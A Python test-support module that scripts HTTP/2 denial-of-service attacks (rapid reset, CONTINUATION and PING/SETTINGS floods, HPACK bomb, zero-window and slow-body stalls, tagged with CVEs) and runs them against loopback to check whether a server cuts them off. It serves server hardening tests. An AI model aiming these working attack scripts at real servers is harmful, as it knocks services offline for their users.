"""Attacks on HTTP/2 servers as frames, each bounded in connections and time. Against loopback only.

A script yields what one connection does: a list of frames to send next, or seconds to wait. It goes on until the peer
ends the connection; then, as an attacker would, a new connection begins anew, until the time or the connections are up.
"""

from __future__ import annotations

import itertools
import select
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Literal

from support.http2_raw import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    ERRORS,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGEST_WINDOW,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    Http2Client,
    frame,
    integer,
    literal,
    request_block,
    rst_stream,
    settings,
    window_update,
)

Step = list[bytes] | float
Streams = Iterator[int]
BATCH = 100
"""Frames, or streams, sent at once."""
KIBIBYTES_16 = 16384
MOST_UNREAD = 1 << 24
"""Bytes that are read when an attack that does not read is over, to see whether the connection ends behind them."""
STILL_OPEN = "still open"


@dataclass(frozen=True)
class Attack:
    """One attack. `connections` are open at the same time; without `reads` nothing that comes is ever read.

    `acknowledges` the server's SETTINGS: not where that frame would come between the frames of one head.
    """

    name: str
    known_as: str
    script: Callable[[Streams], Iterator[Step]]
    opening: bytes = settings()
    connections: int = 1
    reads: bool = True
    acknowledges: bool = True
    kind: Literal["flood", "stall", "work"] = "flood"
    """A flood brings nothing and goes on for ever: its connections have to be ended. A stall keeps things waiting: its
    connections have to be ended, or its streams reset, by a deadline. Work is legal, and costs what it costs."""


@dataclass
class Outcome:
    """What came of an attack."""

    frames: int = 0
    opened: int = 0
    endings: Counter[str] = field(default_factory=Counter)
    received: Counter[int] = field(default_factory=Counter)
    """Frames by kind; nothing where the attack does not read."""
    most_frames: int = 0
    """Frames that the connection with the most of them could send."""

    @property
    def hindered(self) -> bool:
        """Was any connection ended, or any stream reset?"""
        return bool(set(self.endings) - {STILL_OPEN}) or self.received[RST_STREAM] > 0


def _get(streams: Streams, path: str = "/hello") -> tuple[int, bytes]:
    stream = next(streams)
    return stream, frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(path))


def _rapid_reset(streams: Streams) -> Iterator[Step]:
    while True:
        frames = []
        for _ in range(BATCH):
            stream, head = _get(streams)
            frames += [head, rst_stream(stream)]
        yield frames


def _rapid_reset_later(streams: Streams) -> Iterator[Step]:
    """The resets come when the requests have been begun."""
    while True:
        opened = [_get(streams) for _ in range(BATCH)]
        yield [head for _, head in opened]
        yield 0.01
        yield [rst_stream(stream) for stream, _ in opened]


def _made_you_reset(streams: Streams) -> Iterator[Step]:
    """Each request is followed by a frame that is an error of its stream, so that the server has to reset it."""
    while True:
        frames = []
        for number in range(BATCH):
            stream, head = _get(streams)
            wrong = (
                window_update(stream, 0),
                window_update(stream, LARGEST_WINDOW),
                frame(DATA, 0, stream, b"x"),
            )
            frames += [head, wrong[number % 3]]
        yield frames


def _continuation(payload: bytes) -> Callable[[Streams], Iterator[Step]]:
    def script(streams: Streams) -> Iterator[Step]:
        stream = next(streams)
        yield [frame(HEADERS, END_STREAM, stream, request_block())]
        while True:
            yield [frame(CONTINUATION, 0, stream, payload)] * 16

    return script


def _same(frames: list[bytes]) -> Callable[[Streams], Iterator[Step]]:
    """The same frames for ever."""
    return lambda streams: itertools.repeat(frames)


def _empty_data(streams: Streams) -> Iterator[Step]:
    stream = next(streams)
    yield [frame(HEADERS, END_HEADERS, stream, request_block("/hello", "POST"))]
    while True:
        yield [frame(DATA, 0, stream)] * BATCH


def _window_updates(streams: Streams) -> Iterator[Step]:
    stream, head = _get(streams, "/big")
    yield [head]
    while True:
        yield [window_update(0, 1), window_update(stream, 1)] * BATCH


def _bomb(name: bytes, value: bytes) -> Callable[[Streams], Iterator[Step]]:
    """A field put into the dynamic table once, then named by one byte as often as a frame has room for."""

    def script(streams: Streams) -> Iterator[Step]:
        block = request_block() + literal(name, value, indexed=True)
        yield [frame(HEADERS, END_HEADERS | END_STREAM, next(streams), block)]
        newest = integer(62, 7, 0x80)
        while True:
            block = request_block()
            block += newest * (KIBIBYTES_16 - len(block))
            yield [frame(HEADERS, END_HEADERS | END_STREAM, next(streams), block)]

    return script


def _table_churn(streams: Streams) -> Iterator[Step]:
    """The dynamic table is emptied by a size update and filled again in each block (RFC 7541 section 6.3)."""
    block = b"\x20" + integer(4096, 5, 0x20) + request_block() + literal(b"a", b"", indexed=True) * 120
    while True:
        yield [frame(HEADERS, END_HEADERS | END_STREAM, next(streams), block) for _ in range(10)]


def _malformed(streams: Streams) -> Iterator[Step]:
    """Requests that have to be refused, each with a RST_STREAM."""
    block = request_block() + literal(b"", b"") * 20 + literal(b"Connection", b"close")
    while True:
        yield [frame(HEADERS, END_HEADERS | END_STREAM, next(streams), block) for _ in range(BATCH)]


def _large_answers(streams: Streams) -> Iterator[Step]:
    """Asks for 8 MiB on each of 100 streams and then waits."""
    yield [_get(streams, "/big")[1] for _ in range(100)]
    while True:
        yield 1.0


def _full_windows(streams: Streams) -> Iterator[Step]:
    yield [window_update(0, LARGEST_WINDOW - 65535)]
    yield from _large_answers(streams)


def _tiny_windows(streams: Streams) -> Iterator[Step]:
    opened = [_get(streams, "/big") for _ in range(100)]
    yield [head for _, head in opened]
    while True:
        yield [window_update(stream, 1) for stream, _ in opened]
        yield 0.02


def _slow_body(streams: Streams) -> Iterator[Step]:
    opened = [next(streams) for _ in range(100)]
    block = request_block("/echo/slowly", "POST") + literal(b"content-length", b"1000000")
    yield [frame(HEADERS, END_HEADERS, stream, block) for stream in opened]
    while True:
        yield [frame(DATA, 0, stream, b"x") for stream in opened]
        yield 0.5


def _slow_head(streams: Streams) -> Iterator[Step]:
    stream = next(streams)
    yield [frame(HEADERS, END_STREAM, stream, request_block())]
    while True:
        yield 0.5
        yield [frame(CONTINUATION, 0, stream, literal(b"x", b"y"))]


def _priorities(streams: Streams) -> Iterator[Step]:
    while True:
        yield [frame(PRIORITY, 0, next(streams), b"\0\0\0\0\x10") for _ in range(BATCH)]


MANY_FIELDS = literal(b"x" * 16, b"y" * 16) * 400
NO_WINDOW = settings((INITIAL_WINDOW_SIZE, 0))
ONE_BYTE = settings((INITIAL_WINDOW_SIZE, 1))

ATTACKS = (
    Attack("rapid reset", "CVE-2023-44487", _rapid_reset),
    Attack("rapid reset, a moment later", "CVE-2023-44487", _rapid_reset_later),
    Attack("made you reset", "CVE-2025-8671", _made_you_reset),
    Attack("empty CONTINUATION frames", "CVE-2024-27316", _continuation(b""), acknowledges=False),
    Attack("CONTINUATION frames with fields", "CVE-2024-27316", _continuation(MANY_FIELDS), acknowledges=False),
    Attack("SETTINGS flood", "CVE-2019-9515", _same([settings((4, 65535))] * BATCH), reads=False),
    Attack("PING flood", "CVE-2019-9512", _same([frame(PING, payload=b"attacker")] * BATCH), reads=False),
    Attack("SETTINGS flood, answers read", "CVE-2019-9515", _same([settings((4, 65535))] * BATCH)),
    Attack("PING flood, answers read", "CVE-2019-9512", _same([frame(PING, payload=b"attacker")] * BATCH)),
    Attack("empty DATA frames", "CVE-2019-9518", _empty_data),
    Attack("WINDOW_UPDATE flood", "", _window_updates, NO_WINDOW),
    Attack("PRIORITY flood", "CVE-2019-9513", _priorities),
    Attack("frames of no known kind", "", _same([frame(0x42, payload=b"?" * 16)] * BATCH)),
    Attack("refused requests, answers unread", "CVE-2019-9514", _malformed, reads=False),
    Attack("HPACK bomb", "CVE-2016-6581", _bomb(b"x-bomb", b"b" * 4000)),
    Attack("cookie crumbs", "", _bomb(b"cookie", b"a=b")),
    Attack("table emptied and filled", "", _table_churn, kind="work"),
    Attack("windows of zero", "CVE-2019-9517", _large_answers, NO_WINDOW, connections=8, kind="stall"),
    Attack(
        "open windows, answers unread",
        "CVE-2019-9517",
        _full_windows,
        settings((INITIAL_WINDOW_SIZE, LARGEST_WINDOW)),
        connections=8,
        reads=False,
        kind="stall",
    ),
    Attack("windows of one byte", "CVE-2019-9511", _tiny_windows, ONE_BYTE, connections=4, kind="stall"),
    Attack("slow content", "", _slow_body, connections=4, kind="stall"),
    Attack("slow head", "", _slow_head, connections=50, acknowledges=False, kind="stall"),
)


class Attacker:
    """One attacking connection, from the address `source`."""

    def __init__(self, address: tuple[str, int], attack: Attack, outcome: Outcome, source: str) -> None:
        self.attack, self.outcome = attack, outcome
        receive_buffer = 0 if attack.reads else 4096
        self.client = Http2Client(address, opening=attack.opening, receive_buffer=receive_buffer, source=source)
        self.client.acknowledge = False
        self.client.sock.setblocking(False)
        self.steps = attack.script(itertools.count(1, 2))
        self.pending = memoryview(b"")
        self.resume = 0.0
        self.frames = 0
        outcome.opened += 1

    def fileno(self) -> int:
        """For select."""
        return self.client.sock.fileno()

    def wants_to_send(self, now: float) -> bool:
        """Is there something to send now?"""
        if not self.pending and now >= self.resume:
            step = next(self.steps)
            if isinstance(step, float):
                self.resume = now + step
            else:
                self.pending = memoryview(b"".join(step))
                self.frames += len(step)
        return bool(self.pending)

    def send(self) -> None:
        """Send what goes out without waiting."""
        try:
            self.pending = self.pending[self.client.sock.send(self.pending) :]
        except BlockingIOError:
            return
        except (BrokenPipeError, ConnectionResetError):
            self.client.closed = True

    def receive(self) -> None:
        """Read what is there, and acknowledge SETTINGS as every client has to."""
        for came in self.client.read():
            self.outcome.received[came.kind] += 1
            if came.kind == SETTINGS and not came.flags & ACK and self.attack.acknowledges:
                self.pending = memoryview(bytes(self.pending) + frame(SETTINGS, ACK))
        self.client.frames.clear()
        self.client.answers.clear()

    def look(self) -> None:
        """Read what an attack that does not read has left, so that the end of the connection is seen."""
        for _ in range(MOST_UNREAD >> 16):
            if self.client.ended or not self.client.read(0.1):
                return
            self.client.frames.clear()

    def finish(self, ending: str = "") -> None:
        """Note how the connection ended, and close it."""
        if not ending:
            code = self.client.goaway
            ending = "closed without GOAWAY" if code is None else f"GOAWAY {ERRORS[code]}"
        self.outcome.endings[ending] += 1
        self.outcome.frames += self.frames
        self.outcome.most_frames = max(self.outcome.most_frames, self.frames)
        self.client.close()


def loopback_addresses() -> Iterator[str]:
    """Addresses that no other client of a test has, each another."""
    for number in itertools.count(1):
        yield f"127.{64 + (number >> 16) % 64}.{number >> 8 & 255}.{number & 255}"


_EACH_ANOTHER = loopback_addresses()


def run_attack(
    address: tuple[str, int],
    attack: Attack,
    *,
    seconds: float,
    most_connections: int = 200,
    sources: Iterator[str] = _EACH_ANOTHER,
) -> Outcome:
    """Attack for `seconds`, with at most so many connections in all, each from the next of `sources`."""
    outcome = Outcome()
    attackers: list[Attacker] = []
    deadline = time.monotonic() + seconds
    while (now := time.monotonic()) < deadline and (attackers or outcome.opened < most_connections):
        while len(attackers) < attack.connections and outcome.opened < most_connections:
            try:
                attackers.append(Attacker(address, attack, outcome, next(sources)))
            except OSError as error:
                outcome.endings[f"not accepted: {type(error).__name__}"] += 1
                outcome.opened += 1
        senders = [attacker for attacker in attackers if attacker.wants_to_send(now)]
        readers = attackers if attack.reads else []
        readable, writable, _ = select.select(readers, senders, [], 0.02)
        for attacker in readable:
            attacker.receive()
        for attacker in writable:
            attacker.send()
        for attacker in [attacker for attacker in attackers if attacker.client.ended]:
            attacker.finish()
            attackers.remove(attacker)
    for attacker in attackers:
        if not attack.reads:
            attacker.look()
        attacker.finish("" if attacker.client.ended else STILL_OPEN)
    return outcome
